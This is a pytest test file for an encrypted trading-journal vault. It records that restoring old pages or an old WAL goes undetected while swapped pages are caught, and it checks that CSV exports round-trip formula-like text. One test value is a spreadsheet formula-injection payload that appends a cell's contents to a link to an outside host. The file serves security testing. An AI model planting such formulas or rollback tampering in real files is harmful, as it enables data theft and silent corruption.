"""What SECURITY.md says of pages that were edited, moved and brought back from an older copy, and of exports."""

from __future__ import annotations

import asyncio
import shutil
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from factories import make_account, make_trades
from files import contents_of
from zorivest_async import KdfProfile, Vault, VaultError
from zorivest_async.transfer.exporting import export_trades
from zorivest_async.transfer.importers import ZORIVEST, CsvTrades, import_trades

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.asyncio

PAGE = 4096
WORDS = "made up words"


async def save(path: Path, result: float) -> None:
    """Store a hundred trades with one result, or give them another one."""
    async with Vault.open(path, passphrase=WORDS, profile=KdfProfile.CHEAPEST) as vault, vault.unit_of_work() as uow:
        trades = [replace(trade, realized_pnl=result) for trade in make_trades(100)]
        if not await uow.accounts.exists(trades[0].account_id):
            await uow.accounts.save(make_account(trades[0].account_id))
        await uow.trades.save_many(trades, on_duplicate="update")
        await uow.commit()


async def examine(path: Path, result: float) -> tuple[bool, bool]:
    """Return whether a vault opens and verifies, and whether every trade has one result."""
    try:
        async with Vault.open(path, passphrase=WORDS, create=False) as vault:
            ok = (await vault.verify()).ok
            async with vault.unit_of_work(read_only=True) as uow:
                return ok, all(trade.realized_pnl == result for trade in await uow.trades.list_all(limit=None))
    except VaultError:
        return False, False


def page(data: bytes, number: int) -> bytes:
    """Return a page, from 0."""
    return data[number * PAGE : (number + 1) * PAGE]


def with_page(data: bytes, number: int, content: bytes) -> bytes:
    """Return a file with another page in one's place."""
    return data[: number * PAGE] + content + data[(number + 1) * PAGE :]


async def test_an_old_page_at_its_own_place_may_go_unnoticed(tmp_path: Path) -> None:
    """SQLCipher authenticates a page with its number and not with its time, as the document says: not detected."""
    path = tmp_path / "journal.vault"
    await save(path, -50.0)
    old = await contents_of(path)
    await save(path, 75.0)
    new = await contents_of(path)
    changed = [n for n in range(1, min(len(old), len(new)) // PAGE) if page(old, n) != page(new, n)]
    unnoticed = []
    for number in changed:
        await asyncio.to_thread(path.write_bytes, with_page(new, number, page(old, number)))
        if await examine(path, 75.0) == (True, False):
            unnoticed.append(number)
    assert unnoticed, "SECURITY.md may say now that older pages are detected"


async def test_an_old_wal_may_go_unnoticed(tmp_path: Path) -> None:
    """The WAL of an earlier time beside a newer vault is taken for its own: what was committed since then is undone."""
    path, wal = tmp_path / "journal.vault", tmp_path / "journal.vault-wal"
    async with Vault.open(path, passphrase=WORDS, profile=KdfProfile.CHEAPEST) as vault:
        for value in ("first", "second"):
            async with vault.unit_of_work() as uow:
                await uow.settings.set("note", value)
                await uow.commit()
            if value == "first":
                await asyncio.to_thread(shutil.copy, wal, tmp_path / "old-wal")
    await asyncio.to_thread(shutil.copy, tmp_path / "old-wal", wal)
    async with Vault.open(path, passphrase=WORDS, create=False) as vault:
        async with vault.unit_of_work(read_only=True) as uow:
            read = await uow.settings.get("note")
        report = await vault.verify()
    assert (read, report.ok) == ("first", True), "SECURITY.md may say now that an older WAL is detected"


async def test_pages_of_another_place_or_vault_are_detected(tmp_path: Path) -> None:
    """Every page of a vault, put at another place of it or at its own place of another vault."""
    path, other = tmp_path / "journal.vault", tmp_path / "other.vault"
    await save(path, 1.0)
    await save(other, 1.0)
    data, foreign = await contents_of(path), await contents_of(other)
    count = len(data) // PAGE
    for number in range(1, count):
        for content in (page(data, 1 + number % (count - 1)), page(foreign, number)):
            await asyncio.to_thread(path.write_bytes, with_page(data, number, content))
            assert (await examine(path, 1.0))[0] is False


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://example.test/?"&A1)', "\t=1", "\r=1"]
)
async def test_an_export_changes_no_text(tmp_path: Path, text: str) -> None:
    """Also one that a spreadsheet takes for a formula: what is exported is imported equal, as the document says."""
    async with Vault.in_memory() as vault, Vault.in_memory() as other:
        (trade,) = (replace(trade, instrument=text) for trade in make_trades(1))
        async with vault.unit_of_work() as uow:
            await uow.accounts.save(make_account(trade.account_id))
            await uow.trades.save(trade)
            await uow.commit()
        await export_trades(vault, tmp_path / "trades.csv")
        await import_trades(other, CsvTrades(tmp_path / "trades.csv", ZORIVEST), accounts="create")
        async with other.unit_of_work(read_only=True) as uow:
            assert await uow.trades.list_all() == [trade]
